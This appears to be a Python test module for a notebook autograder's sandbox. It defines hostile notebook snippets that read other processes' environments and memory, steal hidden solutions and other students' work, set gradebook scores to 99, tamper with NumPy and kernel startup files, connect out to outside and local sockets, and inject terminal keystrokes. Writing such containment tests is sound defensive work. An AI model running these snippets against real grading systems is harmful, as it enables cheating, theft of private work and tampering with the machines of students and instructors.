"""Notebooks that read, write and call where they have no business."""

from hostile.attack import WRONG, Attack

# Yields the files of the machine that a cheat would like, not those of the system.
FILES = """
import os

SKIP = ("/proc", "/sys", "/usr", "/dev", "/lib", "/boot", "/snap")

def files(*endings):
    for top, folders, names in os.walk("/"):
        if top.startswith(SKIP) or "site-packages" in top or top.count("/") > 12:
            folders.clear()
            continue
        for name in names:
            if name.endswith(endings):
                yield os.path.join(top, name)

def show(path, size=200_000):
    try:
        with open(path, "rb") as file:
            text = file.read(size)
    except OSError:
        return
    if b"CANARY" in text:
        print("found CANARY in", path)
"""
ANSWERS = """
for path in files(".ipynb", ".md", ".json", ".npz", ".db"):
    if "submitted" not in path:
        show(path)
"""
OTHERS = """
for path in files(".ipynb"):
    if "/submitted/" in path or "/autograded/" in path:
        show(path)
"""
ENVIRONMENT = """
for name in os.listdir("/proc"):
    if name.isdigit():
        show(f"/proc/{name}/environ")
"""
MEMORY = """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1}:
    libc.ptrace(16, pid, 0, 0)
    try:
        maps = open(f"/proc/{pid}/maps").readlines()
        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps[:4000]:
                if "rw-p" in line and ("heap" in line or line.split()[-1] == "0"):
                    begin, end = (int(n, 16) for n in line.split()[0].split("-"))
                    mem.seek(begin)
                    if b"CANARY" in mem.read(min(end - begin, 64 << 20)):
                        print("found CANARY in the memory of", pid)
    except (OSError, ValueError) as error:
        print(error)
"""
OPEN_FILES = """
for pid in ("self", str(os.getppid())):
    try:
        for number in os.listdir(f"/proc/{pid}/fd"):
            show(f"/proc/{pid}/fd/{number}") if os.path.isfile(
                f"/proc/{pid}/fd/{number}") else None
    except OSError as error:
        print(error)
"""
SOLUTIONS = """
import glob, importlib.util, sys

for name in ("autograder.author.source", "autograder.grade.expected"):
    try:
        print(importlib.util.find_spec(name))
        module = __import__(name, fromlist=["x"])
        print("found CANARY: the grader", module.__file__)
    except ImportError as error:
        print(error)
for path in sys.path:
    for found in glob.glob(f"{path}/*.pth") + glob.glob(f"{path}/__editable__*.py"):
        print(found)
"""
GRADEBOOK = """
import sqlite3

for path in files(".db"):
    try:
        with sqlite3.connect(path, timeout=1) as book:
            book.execute("update grade set manual_score = 99, auto_score = 99")
            book.execute("update grade_cells set max_score = 1000")
        print("changed", path)
    except sqlite3.Error as error:
        print(error)
"""
PACKAGES = """
import numpy, site, sys

targets = [numpy.__file__, *(f"{p}/zz_hostile.pth" for p in site.getsitepackages())]
for path in targets:
    try:
        with open(path, "a") as file:
            file.write("\\n# hostile\\n")
        print("changed", path)
    except OSError as error:
        print(error)
"""
SUBMISSIONS = """
for path in files(".ipynb"):
    if "/submitted/" in path or "/release/" in path or "/source/" in path:
        try:
            with open(path, "r+b") as file:
                content = file.read().replace(b"2 * x", b"3 * x")
                file.seek(0)
                file.write(content)
            print("changed", path)
        except OSError as error:
            print(error)
"""
KERNEL_FILES = """
from pathlib import Path

import jupyter_core.paths, sys
home = Path.home()
spec = Path(sys.prefix, "share/jupyter/kernels/python3/kernel.json")
for path in (home / ".ipython/profile_default/startup/00.py",
             home / ".jupyter/jupyter_config.py", spec, Path("../00.py"),
             Path("/run/inside/run.py")):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("a") as file:
            file.write("\\n")
        print("wrote", path)
    except OSError as error:
        print(error)
"""
LEFT = """
import builtins, numpy, sys

for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~")):
    try:
        open(os.path.join(folder, "hostile"), "w").write("1")
    except OSError as error:
        print(error)
numpy.ndarray.__doc__
builtins.hostile = numpy.hostile = sys.modules["hostile"] = sys
numpy.allclose = numpy.array_equal = lambda *args, **kwargs: False
os.environ["HOSTILE"] = "1"
for number in (0, 1, 2):
    os.write(number, b"hostile") if number else None
"""
CONNECT = """
import socket

for place in (("127.0.0.1", PORT), ("192.0.2.1", 80)):
    try:
        with socket.create_connection(place, 0.5) as talk:
            talk.sendall(b"hostile")
        print("connected to", place)
    except OSError as error:
        print(error)
try:
    print(socket.getaddrinfo("example.invalid", 80))
except OSError as error:
    print(error)
"""
UNIX = """
import socket

with open("/proc/net/unix") as lines:
    names = {line.split()[-1] for line in lines if line.split()[-1][0] in "@/"}
for name in sorted(names)[:200]:
    with socket.socket(socket.AF_UNIX) as talk:
        talk.settimeout(0.2)
        try:
            talk.connect(name.replace("@", "\\0"))
            print("connected to", name)
        except OSError:
            pass
print(len(names))
"""
KEYS = """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for number, arguments in {
    "add_key": (248, b"user", b"hostile", b"1", 1, -3),
    "io_uring_setup": (425, 4, ctypes.create_string_buffer(120)),
    "userfaultfd": (323, 1),
    "bpf": (321, 0, None, 0),
    "perf_event_open": (298, None, 0, -1, -1, 0),
    "unshare": (272, 0x10000000),
    "mount": (165, b"none", b"/tmp", b"tmpfs", 0, None),
    "memfd_create": (319, b"hostile", 0),
    "shmget": (29, 0, 1 << 20, 0o1600),
}.items():
    print(number, libc.syscall(*arguments) >= 0)
"""
TERMINAL = """
import fcntl, termios

for place in (0, "/dev/tty", "/dev/console"):
    try:
        terminal = place if place == 0 else os.open(place, os.O_RDWR)
        for letter in b"touch /tmp/hostile\\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
        print("typed into", place)
    except OSError as error:
        print(error)
"""
TRAP = """
import socket, struct

names = [n for n in os.listdir("/proc/self/fd") if n.isdigit()]
pair = socket.socketpair()
for name in names:
    try:
        socket.send_fds(pair[0], [b"x"], [int(name)])
    except OSError:
        pass
"""


def _read(name, tries, code):
    return Attack("reading", name, tries, WRONG + FILES + code)


def _write(name, tries, code):
    return Attack("writing", name, tries, WRONG + FILES + code)


def _call(name, tries, code):
    return Attack("network", name, tries, WRONG + FILES + code)


ATTACKS = [
    _read("read_answers", "hidden tests, solutions, the gradebook", ANSWERS),
    _read("read_others", "other students' notebooks", OTHERS),
    _read("read_environment", "all processes' environments", ENVIRONMENT),
    _read("read_memory", "the parent's memory", MEMORY),
    _read("read_files", "files that its parents have open", OPEN_FILES),
    _read("read_grader", "the grader's own package", SOLUTIONS),
    _write("write_gradebook", "99 points for everybody", GRADEBOOK),
    _write("write_packages", "NumPy's code, and a .pth beside it", PACKAGES),
    _write("write_submissions", "other students' notebooks", SUBMISSIONS),
    _write("write_kernel", "startup files, the kernel's specification", KERNEL_FILES),
    _write("write_later", "traps for whoever is graded next", LEFT),
    _call("call_out", "a connection to this machine and beyond", CONNECT),
    _call("call_sockets", "every Unix socket there is", UNIX),
    _call("call_kernel", "rare system calls: io_uring, bpf, mount, keys", KEYS),
    _call("call_terminal", "types into the instructor's terminal", TERMINAL),
    _call("call_descriptors", "sends its open files to itself", TRAP),
]
